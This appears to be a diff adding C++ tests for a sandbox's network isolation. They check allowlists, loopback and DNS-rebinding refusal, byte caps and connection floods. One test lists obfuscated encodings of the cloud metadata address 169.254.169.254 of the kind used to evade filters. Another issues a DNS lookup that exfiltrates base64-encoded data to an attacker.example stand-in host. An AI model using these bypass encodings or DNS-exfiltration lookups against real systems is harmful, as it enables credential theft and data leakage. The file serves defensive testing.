@@ -1,0 +1,321 @@
+// The network through the real binary: what leaves the sandbox, what never
+// does, and what the result says. The "outside" is a real TCP server this test
+// starts on the host's loopback, reachable from a guest only through an
+// allowlisted IP literal or --add-host name with --unsafe-allow-private-address
+// (this machine has no other network).
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <chrono>
+#include <mutex>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "gtest/gtest.h"
+#include "sentry/base/json_lite.h"
+#include "tests/util/subprocess.h"
+
+namespace sentry::testing {
+namespace {
+
+using json_lite::Value;
+
+double NowSec() {
+  return std::chrono::duration<double>(std::chrono::steady_clock::now().time_since_epoch()).count();
+}
+
+// A host service on 127.0.0.1: each connection's request head is recorded,
+// then it is answered with `reply_bytes` bytes of body and closed (unless
+// wait_for_close, where it reads to EOF and records how long that took).
+class HostServer {
+ public:
+  explicit HostServer(size_t reply_bytes = 5, bool wait_for_close = false, int pace_ms = 0)
+      : reply_bytes_(reply_bytes), wait_for_close_(wait_for_close), pace_ms_(pace_ms) {
+    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    EXPECT_EQ(bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof(a)), 0);
+    EXPECT_EQ(listen(fd_, 64), 0);
+    socklen_t len = sizeof(a);
+    getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
+    port_ = ntohs(a.sin_port);
+    thread_ = std::thread([this] { Loop(); });
+  }
+  ~HostServer() {
+    stop_ = true;
+    thread_.join();
+    close(fd_);
+  }
+  int port() const { return port_; }
+  std::string addr() const { return "127.0.0.1:" + std::to_string(port_); }
+  int connections() const { return connections_; }
+  std::vector<std::string> requests() {
+    std::lock_guard<std::mutex> lock(mu_);
+    return requests_;
+  }
+  double eof_after() const { return eof_after_; }
+
+ private:
+  void Loop() {
+    while (!stop_) {
+      pollfd p{fd_, POLLIN, 0};
+      if (poll(&p, 1, 50) <= 0) continue;
+      int c = accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+      if (c < 0) continue;
+      ++connections_;
+      std::string head;
+      char buf[4096];
+      double start = NowSec();
+      while (head.find("\r\n\r\n") == std::string::npos) {
+        pollfd q{c, POLLIN, 0};
+        if (poll(&q, 1, 3000) <= 0) break;
+        ssize_t n = read(c, buf, sizeof(buf));
+        if (n <= 0) break;
+        head.append(buf, static_cast<size_t>(n));
+      }
+      {
+        std::lock_guard<std::mutex> lock(mu_);
+        requests_.push_back(head);
+      }
+      if (wait_for_close_) {
+        while (true) {
+          pollfd q{c, POLLIN, 0};
+          if (poll(&q, 1, 10000) <= 0) break;
+          if (read(c, buf, sizeof(buf)) <= 0) break;
+        }
+        eof_after_ = NowSec() - start;
+      } else {
+        std::string reply =
+            "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(reply_bytes_) + "\r\n\r\n";
+        (void)!send(c, reply.data(), reply.size(), MSG_NOSIGNAL);
+        std::string body(64 << 10, 'x');
+        for (size_t sent = 0; sent < reply_bytes_;) {
+          size_t n = std::min(body.size(), reply_bytes_ - sent);
+          ssize_t w = send(c, body.data(), n, MSG_NOSIGNAL);
+          if (w <= 0) break;
+          sent += static_cast<size_t>(w);
+          if (pace_ms_) std::this_thread::sleep_for(std::chrono::milliseconds(pace_ms_));
+        }
+      }
+      close(c);
+    }
+  }
+
+  size_t reply_bytes_;
+  bool wait_for_close_;
+  int pace_ms_;  // a pause after each 64 KiB sent
+  int fd_ = -1;
+  int port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> connections_{0};
+  std::atomic<double> eof_after_{-1};
+  std::mutex mu_;
+  std::vector<std::string> requests_;
+  std::thread thread_;
+};
+
+struct GuestRun {
+  ProcessResult p;
+  Value r;
+  std::string Describe() const {
+    return "exit " + std::to_string(p.exit_code) + "\n" + p.out + p.err;
+  }
+  std::string Denied() const {
+    std::string out;
+    for (const Value& d : r["denied"].array) {
+      out += d["argument"].str() + " -> " + d["error"].str() + ": " + d["hint"].str() + "\n";
+    }
+    return out;
+  }
+};
+
+GuestRun RunPy(const std::string& code, std::vector<std::string> flags) {
+  flags.insert(flags.begin(), "--json");
+  GuestRun run;
+  run.p = RunSentry(flags, {"/usr/bin/python3", "-c", code}, "", 60);
+  std::optional<Value> v = json_lite::Parse(run.p.out);
+  EXPECT_TRUE(v.has_value()) << run.p.out << run.p.err;
+  if (v) run.r = *v;
+  return run;
+}
+
+std::string Fetch(const std::string& host_port) {
+  return "import urllib.request\n"
+         "print(urllib.request.urlopen('http://" +
+         host_port + "/x', timeout=10).read().decode())\n";
+}
+
+TEST(NetworkTest, AnAllowlistedHostServiceIsReachedOnlyWithTheUnsafeFlag) {
+  HostServer server;
+  GuestRun strict = RunPy(Fetch(server.addr()), {"--allow-net", server.addr()});
+  EXPECT_NE(strict.r["exitCode"].integer(), 0) << strict.Describe();
+  // 127.0.0.1 is the sandbox's own loopback, where nothing listens.
+  EXPECT_NE(strict.r["stderr"].str().find("Connection refused"), std::string::npos)
+      << strict.Describe();
+  EXPECT_EQ(server.connections(), 0) << "the guest reached the host's loopback";
+
+  GuestRun run =
+      RunPy(Fetch(server.addr()), {"--allow-net", server.addr(), "--unsafe-allow-private-address"});
+  EXPECT_EQ(run.r["exitCode"].integer(), 0) << run.Describe();
+  EXPECT_EQ(run.r["stdout"].str(), "xxxxx\n") << run.Describe();
+  EXPECT_EQ(server.connections(), 1);
+  EXPECT_EQ(run.r["network"]["connections"].integer(), 1) << run.p.out;
+  EXPECT_GT(run.r["network"]["bytesOut"].integer(), 40) << run.p.out;
+  EXPECT_GE(run.r["network"]["bytesIn"].integer(), 5) << run.p.out;
+}
+
+TEST(NetworkTest, NamesAreResolvedByTheSentryAndPrivateAnswersRefused) {
+  HostServer server;
+  std::string port = std::to_string(server.port());
+  std::string code =
+      "import socket\nprint(socket.gethostbyname('svc.test'))\n" + Fetch("svc.test:" + port);
+  GuestRun ok = RunPy(code, {"--allow-net", "svc.test:" + port, "--add-host", "svc.test:127.0.0.1",
+                             "--unsafe-allow-private-address"});
+  EXPECT_EQ(ok.r["stdout"].str(), "127.0.0.1\nxxxxx\n") << ok.Describe();
+  EXPECT_EQ(server.connections(), 1);
+  // Without the flag the name resolves to loopback: refused (DNS rebinding).
+  GuestRun refused =
+      RunPy(code, {"--allow-net", "svc.test:" + port, "--add-host", "svc.test:127.0.0.1"});
+  EXPECT_NE(refused.r["stderr"].str().find("gaierror"), std::string::npos) << refused.Describe();
+  EXPECT_NE(refused.Denied().find("dns A svc.test"), std::string::npos) << refused.Denied();
+  EXPECT_EQ(server.connections(), 1) << "the refused run reached the host";
+}
+
+TEST(NetworkTest, OnlyTheAllowedPortLeaves) {
+  HostServer allowed, other;
+  std::string code =
+      "import socket, errno\n"
+      "try:\n"
+      "    socket.create_connection(('127.0.0.1', " +
+      std::to_string(other.port()) +
+      "), timeout=3); print('reached')\n"
+      "except OSError as e: print(errno.errorcode[e.errno])\n";
+  GuestRun run = RunPy(code, {"--allow-net", allowed.addr(), "--unsafe-allow-private-address"});
+  // 127.0.0.1 on another port is the sandbox's own loopback, where nothing listens.
+  EXPECT_EQ(run.r["stdout"].str(), "ECONNREFUSED\n") << run.Describe();
+  EXPECT_EQ(other.connections(), 0);
+}
+
+TEST(NetworkTest, TheMetadataServiceIsRefusedInEveryForm) {
+  std::string code =
+      "import socket, errno\n"
+      "for host in ['169.254.169.254', '2852039166', '0xA9FEA9FE', '0251.0376.0251.0376',\n"
+      "             '169.254.43518', '::ffff:169.254.169.254', '10.0.0.1', '100.64.0.1',\n"
+      "             '192.168.1.1', '172.16.0.1', 'fd00::1', '[::ffff:a9fe:a9fe]']:\n"
+      "    try:\n"
+      "        socket.create_connection((host.strip('[]'), 80), timeout=3); print(host, "
+      "'reached')\n"
+      "    except OSError as e: print(host, errno.errorcode.get(e.errno, e))\n";
+  for (const std::vector<std::string>& flags :
+       {std::vector<std::string>{}, std::vector<std::string>{"--allow-net", "example.com"},
+        std::vector<std::string>{"--allow-net", "169.254.169.254", "--allow-net", "10.0.0.1"}}) {
+    GuestRun run = RunPy(code, flags);
+    EXPECT_EQ(run.r["stdout"].str().find("reached"), std::string::npos) << run.Describe();
+    std::string out = run.r["stdout"].str();
+    size_t refused = 0;
+    for (size_t at = 0; (at = out.find(" ENETUNREACH\n", at)) != std::string::npos; ++at) {
+      ++refused;
+    }
+    EXPECT_EQ(refused, 12u) << run.Describe();
+    EXPECT_NE(run.Denied().find("169.254.169.254:80"), std::string::npos) << run.Denied();
+  }
+}
+
+TEST(NetworkTest, LookupsOfOtherNamesFailFastAndAreListed) {
+  std::string code =
+      "import socket, time\n"
+      "t = time.time()\n"
+      "for name in ['example.com', 'c2VjcmV0LWRhdGE.exfil.attacker.example']:\n"
+      "    try: socket.getaddrinfo(name, 443); print('resolved', name)\n"
+      "    except socket.gaierror as e: print('failed', e.errno)\n"
+      "print('fast' if time.time() - t < 1.5 else 'slow')\n";
+  for (const std::vector<std::string>& flags :
+       {std::vector<std::string>{}, std::vector<std::string>{"--allow-net", "api.example.org"}}) {
+    GuestRun run = RunPy(code, flags);
+    EXPECT_EQ(run.r["stdout"].str(), "failed -2\nfailed -2\nfast\n") << run.Describe();
+    EXPECT_NE(run.Denied().find("dns A example.com"), std::string::npos) << run.Denied();
+    EXPECT_NE(run.Denied().find("dns A c2VjcmV0LWRhdGE.exfil.attacker.example"), std::string::npos)
+        << run.Denied();
+  }
+}
+
+TEST(NetworkTest, NetBytesCutsTheConnections) {
+  // 8 MiB at about 3 MiB/s: the meter samples every 100 ms, so a cut comes
+  // within a tenth of a second's traffic past the cap.
+  HostServer server(8 << 20, false, 20);
+  std::string code =
+      "import socket\n"
+      "s = socket.create_connection(('127.0.0.1', " +
+      std::to_string(server.port()) +
+      "))\n"
+      "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
+      "got = 0\n"
+      "try:\n"
+      "    while True:\n"
+      "        b = s.recv(65536)\n"
+      "        if not b: break\n"
+      "        got += len(b)\n"
+      "except OSError as e: print('error', e.errno)\n"
+      "print('got', got < 8 << 20)\n";
+  GuestRun run = RunPy(code, {"--allow-net", server.addr(), "--unsafe-allow-private-address",
+                              "--net-bytes", "1m", "--timeout", "20"});
+  EXPECT_NE(run.r["stdout"].str().find("got True"), std::string::npos) << run.Describe();
+  EXPECT_EQ(run.r["limit"].str(), "network") << run.Describe();
+  EXPECT_LT(run.r["network"]["bytesIn"].num(), 2.0 * (1 << 20)) << run.p.out;
+}
+
+TEST(NetworkTest, AGuestCloseReachesThePeer) {
+  HostServer server(0, /*wait_for_close=*/true);
+  std::string code =
+      "import socket, time\n"
+      "s = socket.create_connection(('127.0.0.1', " +
+      std::to_string(server.port()) +
+      "))\n"
+      "s.sendall(b'HEAD / HTTP/1.0\\r\\n\\r\\n'); time.sleep(0.3); s.close(); time.sleep(2)\n";
+  GuestRun run = RunPy(code, {"--allow-net", server.addr(), "--unsafe-allow-private-address"});
+  EXPECT_EQ(run.r["exitCode"].integer(), 0) << run.Describe();
+  EXPECT_GT(server.eof_after(), 0) << "the server never saw the close";
+  EXPECT_LT(server.eof_after(), 1.0) << "the close reached the server late";
+}
+
+TEST(NetworkTest, AsyncioAndManyConnectionsOut) {
+  HostServer server;
+  std::string code =
+      "import asyncio\n"
+      "async def one():\n"
+      "    r, w = await asyncio.open_connection('127.0.0.1', " +
+      std::to_string(server.port()) +
+      ")\n"
+      "    w.write(b'GET / HTTP/1.0\\r\\n\\r\\n'); await w.drain()\n"
+      "    data = await r.read(); w.close(); return data.endswith(b'xxxxx')\n"
+      "async def main(): return await asyncio.gather(*[one() for _ in range(30)])\n"
+      "print(all(asyncio.run(main())))\n";
+  GuestRun run = RunPy(code, {"--allow-net", server.addr(), "--unsafe-allow-private-address"});
+  EXPECT_EQ(run.r["stdout"].str(), "True\n") << run.Describe();
+  EXPECT_EQ(server.connections(), 30);
+  EXPECT_EQ(run.r["network"]["connections"].integer(), 30) << run.p.out;
+}
+
+TEST(NetworkTest, AFloodOfRefusedConnectsStaysCheap) {
+  std::string code =
+      "import socket, time\n"
+      "t = time.time(); n = 0\n"
+      "for i in range(2000):\n"
+      "    s = socket.socket()\n"
+      "    try: s.connect(('93.184.216.34', 443))\n"
+      "    except OSError: n += 1\n"
+      "    s.close()\n"
+      "print(n, time.time() - t < 10)\n";
+  GuestRun run = RunPy(code, {"--allow-net", "example.com:443"});
+  EXPECT_EQ(run.r["stdout"].str(), "2000 True\n") << run.Describe();
+  EXPECT_EQ(run.r["denied"].array.size(), 20u);
+}
+
+}  // namespace
+}  // namespace sentry::testing
